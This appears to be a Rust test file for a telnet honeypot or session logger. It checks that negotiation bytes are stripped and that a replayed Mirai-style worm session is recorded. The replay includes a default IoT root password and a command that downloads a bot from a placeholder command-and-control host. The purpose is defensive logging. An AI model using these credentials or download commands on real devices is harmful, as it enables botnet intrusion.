use super::parse::typed;
use crate::testing::Bed;

fn check(line: &[u8], expect: &[u8]) {
    assert_eq!(typed(line), expect);
}

#[test]
fn negotiation_is_not_typed() {
    check(b"\xff\xfb\x18\xff\xfa\x18\0xterm\xff\xf0root\0", b"root");
    check(b"\xff", b"");
    check(b"\xff\xfa", b"");
}

#[test]
fn a_worm_logs_in() {
    let bed = Bed::new();
    bed.says(
        "198.51.100.23:23",
        &[
            (b"", "login: "),
            (b"root\r\n", "Password"),
            (b"xc3511\r\n", "# "),
            (b"enable\r\n", "# "),
            (b"/bin/busybox MIRAI\r\n", "MIRAI: applet not found"),
            (b"cd /tmp; wget http://c2.example/bot; id\r\n", "uid=0"),
        ],
    );
    bed.check("telnet: login root xc3511");
    bed.check("telnet: cd /tmp; wget http://c2.example/bot; id");
}
